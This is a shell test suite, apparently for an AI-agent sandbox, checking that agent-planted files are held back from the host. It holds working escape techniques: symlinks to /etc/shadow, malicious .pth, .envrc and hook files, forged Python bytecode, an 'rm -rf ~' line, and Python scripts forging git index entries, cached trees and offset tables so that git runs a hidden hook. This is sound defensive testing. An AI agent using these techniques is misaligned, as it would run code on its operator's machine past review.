  bundle_for 'cd /workspace && mkdir -p d lib && ln -s /etc/shadow abs && ln -s ../../.. d/up &&
    ln -s src/../../x through && ln -s ../.git/hooks d/hooks && ln -s ../lib d/ok &&
    ln -s "$(printf "a\nadded     forged.txt  (file, 1 bytes)")" forged'
  run ar run --bundle "$BUNDLE" "$ID"
  [ "$status" -eq 0 ]
  marked abs d/up through d/hooks
  run ar workspace "$ID" diff
  [[ "$output" == *'abs  (symlink, 11 bytes) -> "/etc/shadow"  [protected: a symlink to an absolute path'* ]] ||
    fail "no target shown: $output"
  [[ "$output" == *'-> "a\nadded     forged.txt  (file, 1 bytes)"'* ]] || fail "target not quoted: $output"
  ! grep -q '^added     forged.txt' <<<"$output" || fail "a target forged a line: $output"
  run ar workspace "$ID" diff --format json
  [ "$(jq -r '.changes[] | select(.path == "abs") | .target' <<<"$output")" = /etc/shadow ]
  run ar workspace "$ID" commit
  [ "$status" -eq 0 ]
  for p in abs d/up through d/hooks; do
    [ ! -L "$HOST/$p" ] || fail "$p reached the host"
  done
  [ "$(readlink "$HOST/d/ok")" = ../lib ]
  run ar workspace "$ID" commit --include-protected abs
  [ "$status" -eq 0 ]
  [ "$(readlink "$HOST/abs")" = /etc/shadow ]
}

@test "workspace: the profile's protected list (.envrc, .vscode/, .mcp.json, .claude/, shell rc) at any depth" {
  bundle_for 'cd /workspace && mkdir -p .vscode pkg/.claude && echo "touch /x" >.envrc && echo "{}" >.vscode/tasks.json &&
    echo "{}" >.mcp.json && echo "{}" >pkg/.claude/settings.json && echo "rm -rf ~" >src/.bashrc && echo ok >ok.txt'
  run ar run --bundle "$BUNDLE" "$ID"
  [ "$status" -eq 0 ]
  run ar workspace "$ID" commit
  [ "$status" -eq 0 ]
  [[ "$output" == *"left out 5 protected change(s)"* || "$output" == *"left out"*".envrc"* ]]
  [ "$(cat "$HOST/ok.txt")" = ok ]
  for p in .envrc .vscode .mcp.json pkg/.claude src/.bashrc; do
    [ ! -e "$HOST/$p" ] || fail "$p reached the host"
  done
  run ar workspace "$ID" commit --include-protected .envrc
  [ "$status" -eq 0 ]
  [ "$(cat "$HOST/.envrc")" = "touch /x" ] && [ ! -e "$HOST/.vscode" ]
}

# Files host tools run or load by themselves, beyond git's: a venv's `.pth`
# files run on every start of its python (checked for real below), cargo's
# config sets rustc wrappers, rust-toolchain a toolchain path, `.gitattributes`
# routes files through the operator's filters (git-lfs, to `.lfsconfig`'s URL),
# pre-commit and husky run hooks, `.env` is loaded by direnv and editors.
@test "escape: files host tools load by themselves (.pth in a venv, pyvenv.cfg, .cargo/config.toml, rust-toolchain.toml, .npmrc, .gitattributes, .pre-commit-config.yaml, .husky/, .env)" {
  command -v python3 >/dev/null && python3 -m venv "$HOST/.venv" >/dev/null 2>&1 || skip "needs python3 -m venv"
  sp=$(cd "$HOST/.venv" && echo lib/python3*/site-packages)
  [ -d "$HOST/.venv/$sp" ] || skip "no site-packages in the venv"
  MARK=$T/marker-pth
  bundle_for "cd /workspace && echo 'import os; open(\"$MARK\", \"w\")' >.venv/$sp/zz-evil.pth &&
    echo 'home = /tmp/evil' >>.venv/pyvenv.cfg && mkdir -p .cargo .husky pkg &&
    printf '[build]\nrustc-wrapper = \"/tmp/w\"\n' >.cargo/config.toml && echo x >.cargo/config &&
    printf '[toolchain]\npath = \"/tmp/tc\"\n' >rust-toolchain.toml && echo 'script-shell=/tmp/s' >pkg/.npmrc &&
    echo '* filter=lfs' >.gitattributes && echo 'repos: []' >.pre-commit-config.yaml &&
    echo 'touch /x' >.husky/pre-commit && echo 'NODE_OPTIONS=--require=/tmp/x.js' >.env &&
    echo 'import os' >sitecustomize.py && echo ok >ok.txt"
  run ar run --bundle "$BUNDLE" "$ID"
  [ "$status" -eq 0 ] || fail "plant: $output"
  marked ".venv/$sp/zz-evil.pth" .venv/pyvenv.cfg .cargo/config.toml .cargo/config rust-toolchain.toml pkg/.npmrc \
    .gitattributes .pre-commit-config.yaml .husky/pre-commit .env sitecustomize.py
  run ar workspace "$ID" commit
  [ "$status" -eq 0 ] || fail "commit: $output"
  [ "$(cat "$HOST/ok.txt")" = ok ]
  for p in ".venv/$sp/zz-evil.pth" .cargo rust-toolchain.toml pkg/.npmrc .gitattributes .pre-commit-config.yaml .husky .env sitecustomize.py; do
    [ ! -e "$HOST/$p" ] || fail "$p reached the host"
  done
  ! grep -q evil "$HOST/.venv/pyvenv.cfg" || fail "pyvenv.cfg reached the host"
  "$HOST/.venv/bin/python" -c pass
  [ ! -e "$MARK" ] || fail "the agent's .pth ran on the host after commit"
  run ar workspace "$ID" commit --include-protected ".venv/$sp/zz-evil.pth"
  [ "$status" -eq 0 ] || fail "commit --include-protected: $output"
  "$HOST/.venv/bin/python" -c pass
  [ -e "$MARK" ] || fail "control: the .pth did not run even when committed"
}

# Python runs a module's cached bytecode instead of its source when the cache's
# header matches the source's mtime and size: the source reviewed unchanged, the
# code run another.  A sourceless `mod.pyc` beside no `mod.py` is imported too.
@test "escape: cached Python bytecode (__pycache__/*.pyc, a sourceless .pyc) runs instead of the reviewed source" {
  command -v python3 >/dev/null || skip "needs python3"
  MARK=$T/marker-pyc
  printf 'def f():\n    return "honest"\n' >"$HOST/mod.py"
  printf 'import mod\nprint(mod.f())\n' >"$HOST/main.py"
  touch -d '2026-01-01 00:00:00' "$HOST/mod.py"
  # the agent's bytecode: compiled from another source, stamped with mod.py's mtime and size
  mkdir -p "$T/evil" && printf 'import os\nopen("%s", "w")\ndef f():\n    return "honest"\n' "$MARK" >"$T/evil/mod.py"
  python3 - "$HOST/mod.py" "$T/evil/mod.py" "$T/evil.pyc" <<'PY'
import importlib.util, marshal, os, sys
st = os.stat(sys.argv[1])
code = compile(open(sys.argv[2]).read(), sys.argv[1], "exec")
hdr = importlib.util.MAGIC_NUMBER + (0).to_bytes(4, "little") + \
    (int(st.st_mtime) & 0xFFFFFFFF).to_bytes(4, "little") + (st.st_size & 0xFFFFFFFF).to_bytes(4, "little")
open(sys.argv[3], "wb").write(hdr + marshal.dumps(code))
PY
  tag=$(python3 -c 'import sys; print(sys.implementation.cache_tag)')
  mkdir -p "$BUNDLE/rootfs/payload" && cp "$T/evil.pyc" "$BUNDLE/rootfs/payload/"
  bundle_for "cd /workspace && mkdir -p __pycache__ lib && cp /payload/evil.pyc __pycache__/mod.$tag.pyc &&
    cp /payload/evil.pyc lib/legacy.pyc && echo '# tidy' >>main.py"
  run ar run --bundle "$BUNDLE" "$ID"
  [ "$status" -eq 0 ] || fail "plant: $output"
  marked "__pycache__/mod.$tag.pyc" lib/legacy.pyc
  run ar workspace "$ID" commit
  [ "$status" -eq 0 ] || fail "commit: $output"
  [ "$(tail -n1 "$HOST/main.py")" = '# tidy' ] || fail "main.py not committed"
  [ ! -e "$HOST/__pycache__/mod.$tag.pyc" ] && [ ! -e "$HOST/lib/legacy.pyc" ] || fail "bytecode reached the host"
  (cd "$HOST" && python3 main.py) >/dev/null
  [ ! -e "$MARK" ] || fail "the agent's bytecode ran on the host"
  # control: the same file, included, does run (the attack is real)
  run ar workspace "$ID" commit --include-protected "__pycache__/mod.$tag.pyc"
  [ "$status" -eq 0 ] || fail "commit --include-protected: $output"
  (cd "$HOST" && python3 main.py) >/dev/null
  [ -e "$MARK" ] || fail "control: the cached bytecode did not run"
}

@test "workspace: the list's tools beyond git (mise, lefthook, lint-staged, devcontainer, Sapling, agents' MCP files, R, Ruby, Helix, Emacs, rope)" {
  bundle_for "cd /workspace && mkdir -p .config/mise .mise .sl .amazonq .kiro/settings .helix .ropeproject sub &&
    for f in mise.toml mise.local.toml .mise.local.toml .config/mise.toml .config/mise/config.toml .mise/config.toml \
      lefthook.yml .lefthook.yml sub/lefthook-local.yml .lintstagedrc.json lint-staged.config.js .devcontainer.json \
      .bazelversion .sl/config .amazonq/mcp.json .kiro/settings/mcp.json opencode.json .helix/languages.toml .lazy.lua \
      .Rprofile .irbrc .pryrc .gitconfig .dir-locals.el sub/.dir-locals-2.el .ropeproject/config.py; do echo x >\$f; done && echo ok >lefty.txt && echo ok >mise.md"
  run ar run --bundle "$BUNDLE" "$ID"
  [ "$status" -eq 0 ] || fail "plant: $output"
  marked mise.toml mise.local.toml .mise.local.toml .config/mise.toml .config/mise/config.toml .mise/config.toml \
    lefthook.yml .lefthook.yml sub/lefthook-local.yml .lintstagedrc.json lint-staged.config.js .devcontainer.json \
    .bazelversion .sl/config .amazonq/mcp.json .kiro/settings/mcp.json opencode.json .helix/languages.toml .lazy.lua \
    .Rprofile .irbrc .pryrc .gitconfig .dir-locals.el sub/.dir-locals-2.el .ropeproject/config.py
  run ar workspace "$ID" diff --format json
  for p in lefty.txt mise.md; do
    [ "$(jq -r --arg p "$p" '.changes[] | select(.path == $p) | .protected // "none"' <<<"$output")" = none ] ||
      fail "$p protected"
  done
}

# mailmap-misattribution: an agent's .mailmap (in the work tree, which git log reads by
# default) showed the operator's commits in the host's `git log` under another name and
# address: listed by diff, but committed with the rest.  It is held back now.
@test "escape: mailmap-misattribution: an agent's .mailmap renames the operator's commits in the host's git log" {
  host_repo plain
  bundle_for 'cd /workspace && printf "Someone Else <else@example.com> op <op@example.com>\n" >.mailmap && echo ok >notes.txt'
  run ar run --bundle "$BUNDLE" "$ID"
  [ "$status" -eq 0 ] || fail "plant: $output"
  marked .mailmap
  run ar workspace "$ID" commit
  [ "$status" -eq 0 ] || fail "commit: $output"
  [[ "$output" == *"left out .mailmap"* ]] || fail "commit did not leave out .mailmap: $output"
  [ -f "$HOST/notes.txt" ] || fail "the plain change was not committed"
  [ "$(git -C "$HOST" log -1 --format='%aN <%aE>')" = "op <op@example.com>" ] ||
    fail "the host's git log: $(git -C "$HOST" log -1 --format='%aN <%aE>')"
  # the control: committed, the host's git log shows the other name
  run ar workspace "$ID" commit --include-protected .mailmap
  [ "$status" -eq 0 ] || fail "commit --include-protected: $output"
  [ "$(git -C "$HOST" log -1 --format='%aN <%aE>')" = "Someone Else <else@example.com>" ] ||
    fail "control: $(git -C "$HOST" log -1 --format='%aN <%aE>')"
}

# git does not check the paths of an index it reads: an index of the agent's
# that stages `.git/hooks/post-checkout` (its blob in the agent's objects) makes
# the operator's `git checkout -- .` (undo what `git status` shows as deleted)
# write the hook, and the next checkout runs it.  Such an index is protected.
@test "escape: a forged .git/index staging .git/hooks/post-checkout (git checkout -- . writes it)" {
  host_repo plain
  MARK=$T/marker-index
  bundle_usr "set -e; cd /workspace && mkdir -p .xit/hooks && printf '#!/bin/sh\ntouch $MARK\n' >.xit/hooks/post-checkout &&
    chmod +x .xit/hooks/post-checkout && git add .xit && rm -rf .xit && python3 /etc/forge.py && git ls-files"
  cat >"$BUNDLE/rootfs/etc/forge.py" <<'PY'
import hashlib
d = open(".git/index", "rb").read()[:-20].replace(b".xit/hooks/", b".git/hooks/")
open(".git/index", "wb").write(d + hashlib.sha1(d).digest())
PY
  run ar run --bundle "$BUNDLE" "$ID"
  [ "$status" -eq 0 ] && [[ "$output" == *".git/hooks/post-checkout"* ]] || fail "plant: $output"
  marked .git/index
  run ar workspace "$ID" diff
  [[ "$output" == *'.git/index'*'a git index naming a path inside `.git`'*'`.git/hooks/post-checkout`'* ]] || fail "$output"
  run ar workspace "$ID" commit
  [ "$status" -eq 0 ] && [[ "$output" == *"left out .git/index"* ]] || fail "commit: $output"
  (cd "$HOST" && git status && git checkout -- . && git checkout -q -b review) >/dev/null 2>&1 </dev/null || true
  [ ! -e "$HOST/.git/hooks/post-checkout" ] && [ ! -e "$MARK" ] || fail "the agent's hook reached .git/hooks or ran"
  run ar workspace "$ID" commit --include-protected .git/index
  [ "$status" -eq 0 ] || fail "commit --include-protected: $output"
  (cd "$HOST" && git status && git checkout -- . && git checkout -q -b review2) >/dev/null 2>&1 </dev/null || true
  [ -e "$MARK" ] || fail "control: the forged index did not make git write and run the hook"
}

@test "escape: tracked files the host's .git/config runs (core.hooksPath, include.path, a filter's script)" {
  host_repo plain
  MARK=$T/marker-hookspath
  mkdir -p "$HOST/tools/hooks" "$HOST/scripts" "$HOST/conf"
  printf '#!/bin/sh\nexit 0\n' >"$HOST/tools/hooks/pre-commit"
  printf '#!/bin/sh\ncat\n' >"$HOST/scripts/clean.sh"
  chmod +x "$HOST/tools/hooks/pre-commit" "$HOST/scripts/clean.sh"
  printf '[alias]\n\tst = status\n' >"$HOST/conf/git.inc"
  echo '*.dat filter=tidy' >"$HOST/.gitattributes"
  git -C "$HOST" config core.hooksPath tools/hooks
  git -C "$HOST" config include.path ../conf/git.inc
  git -C "$HOST" config filter.tidy.clean 'sh ./scripts/clean.sh'
  git -C "$HOST" add -A && git -C "$HOST" commit -q -m hooks
  bundle_for "cd /workspace && printf '#!/bin/sh\ntouch $MARK\n' >tools/hooks/pre-commit &&
    printf '[core]\n\tfsmonitor = \"touch $MARK.fsmonitor; false\"\n' >>conf/git.inc &&
    printf '#!/bin/sh\ntouch $MARK.filter; cat\n' >scripts/clean.sh && echo data >x.dat && echo more >>a.txt"
  echo a >"$HOST/a.txt" && git -C "$HOST" add a.txt && git -C "$HOST" commit -q -m a
  run ar run --bundle "$BUNDLE" "$ID"
  [ "$status" -eq 0 ] || fail "run: $output"
  marked tools/hooks/pre-commit conf/git.inc scripts/clean.sh
  run ar workspace "$ID" diff
  [[ "$output" == *"tools/hooks/pre-commit"*"configuration names"*"core.hooksPath"* ]] || fail "diff: $output"
  [[ "$output" == *"scripts/clean.sh"*"filter.tidy.clean"* ]] || fail "diff: $output"
  [[ "$output" == *"conf/git.inc"*"include.path"* ]] || fail "diff: $output"
  run ar workspace "$ID" commit
  [ "$status" -eq 0 ] && [[ "$output" == *"left out tools/hooks/pre-commit"* ]] || fail "commit: $output"
  # the unnamed changes arrived; the operator's usual git then runs nothing of the agent's
  [ "$(tail -n1 "$HOST/a.txt")" = more ] || fail "a.txt not committed"
  (cd "$HOST" && git status && git add -A && git commit -q -m review) >/dev/null 2>&1 </dev/null || true
  [ ! -e "$MARK" ] && [ ! -e "$MARK.fsmonitor" ] && [ ! -e "$MARK.filter" ] ||
    fail "the agent's code ran on the host: $(ls "$T" | grep marker)"
  # control: the same files included by hand do run
  run ar workspace "$ID" commit --include-protected tools/hooks/pre-commit --include-protected conf/git.inc \
    --include-protected scripts/clean.sh
  [ "$status" -eq 0 ] || fail "commit --include-protected: $output"
  (cd "$HOST" && echo more2 >>a.txt && git status && git add -A && git commit -q -m review2) >/dev/null 2>&1 </dev/null || true
  [ -e "$MARK" ] && [ -e "$MARK.fsmonitor" ] || fail "control: the included hook and fsmonitor did not run"
}

# The operator's own git configuration names work-tree paths too: git reads the system
# and global files before the repository's, so `core.hooksPath = .hooks` in ~/.gitconfig
# runs the work tree's `.hooks/` in every repository, and an include may reach further.
@test "escape: work-tree files the operator's global git config runs (core.hooksPath in ~/.gitconfig, an alias in a file it includes)" {
  host_repo plain
  MARK=$T/marker-global
  home=$T/operator-home
  mkdir -p "$home/.config/git" "$HOST/.hooks" "$HOST/tools"
  printf '[user]\n\tname = op\n\temail = op@example.com\n[core]\n\thooksPath = .hooks\n[include]\n\tpath = ~/.config/git/extra.inc\n' >"$home/.gitconfig"
  printf '[alias]\n\tci = !sh ./tools/precommit.sh && git commit\n' >"$home/.config/git/extra.inc"
  printf '#!/bin/sh\nexit 0\n' >"$HOST/.hooks/pre-commit"
  printf '#!/bin/sh\nexit 0\n' >"$HOST/tools/precommit.sh"
  chmod +x "$HOST/.hooks/pre-commit"
  git -C "$HOST" add -A && git -C "$HOST" commit -q -m hooks
  bundle_for "cd /workspace && printf '#!/bin/sh\ntouch $MARK\n' >.hooks/pre-commit &&
    printf '#!/bin/sh\ntouch $MARK.alias\n' >tools/precommit.sh && echo more >>a.txt"
  echo a >"$HOST/a.txt" && git -C "$HOST" add a.txt && git -C "$HOST" commit -q -m a
  run ar run --bundle "$BUNDLE" "$ID"
  [ "$status" -eq 0 ] || fail "run: $output"
  # without the operator's files (another HOME), nothing names them: the rule reads git's files
  run env HOME=/nonexistent GIT_CONFIG_NOSYSTEM=1 "$AGENTRT" --root "$ROOT" workspace "$ID" diff
  [[ "$output" != *".hooks/pre-commit"*"configuration names"* ]] || fail "named without ~/.gitconfig: $output"
  export HOME=$home
  run ar workspace "$ID" diff
  [[ "$output" == *".hooks/pre-commit"*"configuration names"*"core.hooksPath"* ]] || fail "diff: $output"
  [[ "$output" == *"tools/precommit.sh"*"alias.ci"* ]] || fail "diff: $output"
  run ar workspace "$ID" commit
  [ "$status" -eq 0 ] && [[ "$output" == *"left out .hooks/pre-commit"* ]] || fail "commit: $output"
  [ "$(tail -n1 "$HOST/a.txt")" = more ] || fail "a.txt not committed"
  (cd "$HOST" && git add -A && git ci -q -m review) >/dev/null 2>&1 </dev/null || true
  [ ! -e "$MARK" ] && [ ! -e "$MARK.alias" ] || fail "the agent's code ran on the host: $(ls "$T" | grep marker)"
  # control: included by hand, the operator's next commit runs both
  run ar workspace "$ID" commit --include-protected .hooks/pre-commit --include-protected tools/precommit.sh
  [ "$status" -eq 0 ] || fail "commit --include-protected: $output"
  (cd "$HOST" && echo more2 >>a.txt && git add -A && git ci -q -m review2) >/dev/null 2>&1 </dev/null || true
  [ -e "$MARK" ] && [ -e "$MARK.alias" ] || fail "control: the included hook and alias did not run"
}

# A new `.envrc` and a symlink the diff marks and the commit leaves out come
# back through the agent's own git commit: `.git/index` names them and the
# host's `git checkout -- .` writes every entry of it.
@test "escape: protected entries staged in a git index (.envrc, a symlink to /etc/shadow)" {
  host_repo plain
  bundle_usr "set -e; cd /workspace && echo 'touch $T/marker-envrc' >.envrc && ln -s /etc/shadow notes.txt &&
    git add -A && git commit -q -m tidy && git ls-files -s"
  run ar run --bundle "$BUNDLE" "$ID"
  [ "$status" -eq 0 ] && [[ "$output" == *"120000 "*"notes.txt"* ]] || fail "plant: $output"
  marked .git/index .envrc notes.txt
  run ar workspace "$ID" diff
  [[ "$output" == *'.git/index'*'a git index with a new or changed entry on the protected list'*'`.envrc`'* ]] ||
    fail "$output"
  run ar workspace "$ID" commit
  [ "$status" -eq 0 ] && [[ "$output" == *"left out .git/index"* ]] || fail "commit: $output"
  [ -e "$HOST/.git/refs/heads/$(git -C "$HOST" symbolic-ref --short HEAD)" ] || fail "the agent's ref was not committed"
  (cd "$HOST" && git status && git checkout -- .) >/dev/null 2>&1 </dev/null || true
  [ ! -e "$HOST/.envrc" ] && [ ! -L "$HOST/notes.txt" ] || fail "git checkout -- . wrote the agent's .envrc or symlink"
  run ar workspace "$ID" commit --include-protected .git/index
  [ "$status" -eq 0 ] || fail "commit --include-protected: $output"
  (cd "$HOST" && git checkout -- .) >/dev/null 2>&1 </dev/null || true
  grep -q marker-envrc "$HOST/.envrc" && [ "$(readlink "$HOST/notes.txt")" = /etc/shadow ] ||
    fail "control: the index did not make git write the .envrc and the symlink"
}

# git's cached trees (the index's TREE extension) are taken by `git commit` and `git
# write-tree` without reading the entries below a valid node.  The agent's index has the host's
# entries (clean, nothing risky) and a root node naming a tree of its own (the host's files, a
# .envrc and a symlink to /etc/shadow): the host's next `git commit` records that tree, and
# `git reset --hard` writes its files.
@test "escape: a forged cached tree in .git/index (TREE extension): the host's git commit records the agent's tree" {
  host_repo plain
  tree0=$(git -C "$HOST" rev-parse HEAD^{tree})
  bundle_usr "set -e; cd /workspace; T=\$(git rev-parse HEAD^{tree})
    echo 'touch $T/marker-ctree' >.envrc && ln -s /etc/shadow notes.txt
    export GIT_INDEX_FILE=/tmp/fx; git read-tree HEAD; git add -f .envrc notes.txt; X=\$(git write-tree)
    unset GIT_INDEX_FILE; rm -f .envrc notes.txt
    git read-tree HEAD && git write-tree >/dev/null && python3 /etc/ctree.py \$T \$X
    test -z \"\$(git status --porcelain)\" && echo PLANTED \$X"
  cat >"$BUNDLE/rootfs/etc/ctree.py" <<'PY'
import hashlib, sys
t, x = bytes.fromhex(sys.argv[1]), bytes.fromhex(sys.argv[2])
d = bytearray(open(".git/index", "rb").read()[:-20])
i = d.find(b"TREE")
j = d.find(t, i)
assert i > 0 and j > 0, "no cached root tree"
d[j:j + 20] = x
open(".git/index", "wb").write(bytes(d) + hashlib.sha1(d).digest())
PY
  run ar run --bundle "$BUNDLE" "$ID"
  [ "$status" -eq 0 ] && [[ "$output" == *PLANTED* ]] || fail "plant: $output"
  forged=$(sed -n 's/^PLANTED //p' <<<"$output")
  marked .git/index
  run ar workspace "$ID" commit
  [ "$status" -eq 0 ] && [[ "$output" == *"left out .git/index"* ]] || fail "commit: $output"
  (cd "$HOST" && git commit -q --allow-empty -m review && git reset -q --hard) >/dev/null 2>&1 </dev/null || true
  [ "$(git -C "$HOST" rev-parse HEAD^{tree})" = "$tree0" ] || fail "the host's commit recorded $(git -C "$HOST" rev-parse HEAD^{tree})"
  [ ! -e "$HOST/.envrc" ] && [ ! -L "$HOST/notes.txt" ] || fail "git reset --hard wrote the agent's files: $(ls -la "$HOST")"
  # control: the index included, the host's own commit records the agent's tree (the test can fail)
  run ar workspace "$ID" commit --include-protected .git/index
  [ "$status" -eq 0 ] || fail "commit --include-protected: $output"
  (cd "$HOST" && git commit -q --allow-empty -m review2 && git reset -q --hard) >/dev/null 2>&1 </dev/null || true
  [ "$(git -C "$HOST" rev-parse HEAD^{tree})" = "$forged" ] && grep -q marker-ctree "$HOST/.envrc" &&
    [ "$(readlink "$HOST/notes.txt")" = /etc/shadow ] || fail "control: $(git -C "$HOST" log --stat -1; ls -la "$HOST")"
}

# git takes an entry's name length from its flags (all but 0xfff) and the entry's size from
# that length; agentrt read the name up to its NUL.  An entry staged honestly as `.envrcX/a`
# (nothing protected) whose flags say 6: git reads `.envrc` (same padded size, so both read
# the same entries after it), and the host's `git checkout -- .` writes it.
@test "escape: an index entry whose name length (flags) is shorter than its NUL-terminated name (.envrcX/a read by git as .envrc)" {
  host_repo plain
  MARK=$T/marker-namelen
  bundle_usr "set -e; cd /workspace; mkdir .envrcX && echo 'touch $MARK' >.envrcX/a && git add .envrcX/a && rm -rf .envrcX
    python3 /etc/nl.py .envrcX/a .envrc && git ls-files -s | grep envrc && echo PLANTED"
  cat >"$BUNDLE/rootfs/etc/nl.py" <<'PY'
import hashlib, struct, sys
# the entry named sys.argv[1] keeps its bytes, its flags' name length says len(sys.argv[2])
d = bytearray(open(".git/index", "rb").read()[:-20])
name, short = sys.argv[1].encode(), sys.argv[2].encode()
assert name.startswith(short)
i = d.find(name + b"\0")
assert i > 0
f = struct.unpack(">H", d[i - 2:i])[0]
d[i - 2:i] = struct.pack(">H", (f & 0xf000) | len(short))
open(".git/index", "wb").write(bytes(d) + hashlib.sha1(d).digest())
PY
  run ar run --bundle "$BUNDLE" "$ID"
  [ "$status" -eq 0 ] && [[ "$output" == *PLANTED* ]] || fail "plant: $output"
  marked .git/index
  run ar workspace "$ID" commit
  [ "$status" -eq 0 ] && [[ "$output" == *"left out .git/index"* ]] || fail "commit: $output"
  (cd "$HOST" && git status && git checkout -- .) >/dev/null 2>&1 </dev/null || true
  [ ! -e "$HOST/.envrc" ] || fail "git checkout -- . wrote the agent's .envrc"
  # control: the index included, the host's git writes .envrc (the test can fail)
  run ar workspace "$ID" commit --include-protected .git/index
  [ "$status" -eq 0 ] || fail "commit --include-protected: $output"
  (cd "$HOST" && git checkout -- .) >/dev/null 2>&1 </dev/null || true
  grep -q marker-namelen "$HOST/.envrc" || fail "control: git did not write .envrc: $(ls -la "$HOST")"
}

# An index's entry offset table (IEOT, with EOIE) tells a git that reads with threads
# (`index.threads`) where each block of entries starts: it reads each block from there, not
# in sequence.  The agent's index holds 20,001 clean entries in sequence, and its last block's
# offset points into an extension git skips, where the same block starts with
# `.git/hooks/post-checkout`: agentrt read the clean sequence, the host's threaded git the
# hook (`git checkout -- .` writes it, the next checkout runs it).
@test "escape: an index whose offset table (IEOT) points git's threaded reader at entries the sequence does not hold" {
  host_repo plain
  MARK=$T/marker-ieot
  bundle_usr "set -e; cd /workspace; mkdir d; i=0; while [ \$i -lt 20001 ]; do : >d/f\$i; i=\$((i+1)); done
    git add d && git commit -q -m files
    git -c index.recordOffsetTable=true -c index.recordEndOfIndexEntries=true -c index.threads=4 update-index --force-write-index
    printf '#!/bin/sh\ntouch $MARK\n' >/tmp/hook && B=\$(git hash-object -w /tmp/hook)
    python3 /etc/ieot.py .git/hooks/post-checkout \$B 2>/dev/null
    test -z \"\$(git -c index.threads=1 ls-files | grep hooks)\" && git -c index.threads=4 ls-files | grep hooks && echo PLANTED"
  cat >"$BUNDLE/rootfs/etc/ieot.py" <<'PY'
import hashlib, struct, sys
# forge: the last IEOT block of .git/index read from a hidden optional extension, its first
# entry renamed to sys.argv[1] with blob id sys.argv[2] (mode 100755)
d = open(".git/index", "rb").read()
body, h = d[:-20], 20
n = struct.unpack(">I", body[8:12])[0]
# sequential parse (v2): entry offsets
pos, offs = 12, []
for i in range(n):
    offs.append(pos)
    flags = struct.unpack(">H", body[pos + 60:pos + 62])[0]
    nul = body.index(b"\0", pos + 62)
    pos = pos + ((62 + (nul - pos - 62) + 8) & ~7)
ext0 = pos
exts, p = [], ext0
while p < len(body):
    sig, size = body[p:p + 4], struct.unpack(">I", body[p + 4:p + 8])[0]
    exts.append((sig, body[p + 8:p + 8 + size])); p += 8 + size
ext = dict(exts)
ie = ext[b"IEOT"]
blocks = [struct.unpack(">II", ie[4 + 8 * k:12 + 8 * k]) for k in range((len(ie) - 4) // 8)]
print("blocks", blocks, file=sys.stderr)
boff, bnr = blocks[-1]
k0 = offs.index(boff)
ents = []
for i in range(k0, k0 + bnr):
    a = offs[i]; b = offs[i + 1] if i + 1 < n else ext0
    e = bytearray(body[a:b])
    if i == k0:
        name = sys.argv[1].encode()
        fixed = bytearray(e[:62])
        fixed[24:28] = struct.pack(">I", 0o100755)
        fixed[40:60] = bytes.fromhex(sys.argv[2])
        fixed[60:62] = struct.pack(">H", len(name))
        ln = (62 + len(name) + 8) & ~7
        e = bytes(fixed) + name + b"\0" * (ln - 62 - len(name))
    ents.append(bytes(e))
hidden = b"".join(ents)
# new extensions: all but IEOT/EOIE as they were, then ZHID (the hidden block), IEOT, EOIE
out = bytearray(body[:ext0])
newext = [(s, v) for s, v in exts if s not in (b"IEOT", b"EOIE")]
for s, v in newext:
    out += s + struct.pack(">I", len(v)) + v
zoff = len(out) + 8
out += b"ZHID" + struct.pack(">I", len(hidden)) + hidden
blocks[-1] = (zoff, bnr)
ie2 = ie[:4] + b"".join(struct.pack(">II", o, c) for o, c in blocks)
out += b"IEOT" + struct.pack(">I", len(ie2)) + ie2
# EOIE: offset of the first extension, hash over each extension's sig and size
hs = hashlib.sha1()
p = ext0
while p < len(out):
    sig, size = out[p:p + 4], struct.unpack(">I", out[p + 4:p + 8])[0]
    hs.update(out[p:p + 8]); p += 8 + size
eoie = struct.pack(">I", ext0) + hs.digest()
out += b"EOIE" + struct.pack(">I", len(eoie)) + eoie
open(".git/index", "wb").write(bytes(out) + hashlib.sha1(out).digest())
PY
  run ar run --bundle "$BUNDLE" "$ID"
  [ "$status" -eq 0 ] && [[ "$output" == *PLANTED* ]] || fail "plant: $(tail -5 <<<"$output")"
  run ar workspace "$ID" diff --format json
  [ "$(jq -r '.changes[] | select(.path == ".git/index") | .protected // "none"' <<<"$output")" != none ] ||
    fail ".git/index not protected"
  run ar workspace "$ID" commit
  [ "$status" -eq 0 ] && [[ "$output" == *"left out .git/index"* ]] || fail "commit: $(tail -5 <<<"$output")"
  git -C "$HOST" -c index.threads=4 ls-files 2>/dev/null | grep -q hooks && fail "the host's index lists the hook"
  (cd "$HOST" && git -c index.threads=4 checkout -- . && git checkout -q -b review) >/dev/null 2>&1 </dev/null || true
  [ ! -e "$HOST/.git/hooks/post-checkout" ] && [ ! -e "$MARK" ] || fail "the hook reached .git/hooks or ran"
  # control: the index included, the host's threaded git reads the hidden entry (the test can fail)
  run ar workspace "$ID" commit --include-protected .git/index
  [ "$status" -eq 0 ] || fail "commit --include-protected: $output"
  git -C "$HOST" -c index.threads=4 ls-files 2>/dev/null | grep -q '^.git/hooks/post-checkout$' ||
    fail "control: the host's threaded git does not read the hidden entry"
}

@test "workspace: an honest index with an end-of-entries extension and offset table (index.threads) commits" {
  host_repo plain
  bundle_usr "set -e; cd /workspace; mkdir d; i=0; while [ \$i -lt 12000 ]; do : >d/f\$i; i=\$((i+1)); done
    git config --global index.recordEndOfIndexEntries true; git config --global index.recordOffsetTable true
    git add d && git commit -q -m files && echo x >d/f1 && git -c index.threads=4 add d/f1 && echo DONE"
  run ar run --bundle "$BUNDLE" "$ID"
  [ "$status" -eq 0 ] && [[ "$output" == *DONE* ]] || fail "run: $output"
  run ar workspace "$ID" diff --format json
  [ "$(jq -r '.changes[] | select(.path == ".git/index") | .protected // "none"' <<<"$output")" = none ] ||
    fail "the honest index is protected: $(jq -c '.changes[] | select(.path == ".git/index")' <<<"$output")"
  run ar workspace "$ID" commit
  [ "$status" -eq 0 ] || fail "commit: $output"
  python3 -c 'import sys; d = open(sys.argv[1], "rb").read(); assert d[-52:-48] == b"EOIE"' "$HOST/.git/index" ||
    fail "the index has no EOIE"
  [ "$(git -C "$HOST" -c index.threads=4 status --porcelain)" = "M  d/f1" ] || fail "host status: $(git -C "$HOST" status --porcelain | head)"
}

# An index's end-of-entries extension (EOIE) tells a git that reads with threads (the default
# on more than one CPU) where its extensions start: that thread reads them from there, not
# from the end of the entries.  The agent's index ends in an optional extension git skips,
# whose data is a TREE extension naming the agent's root tree, and an EOIE pointing into it:
# agentrt (and a git of one thread) saw no cached trees, the host's threaded `git commit`
# recorded the agent's tree and `git reset --hard` wrote its .envrc and symlink.
@test "escape: an index whose end-of-entries offset (EOIE) points git's threaded reader at a hidden cached tree" {
  host_repo plain
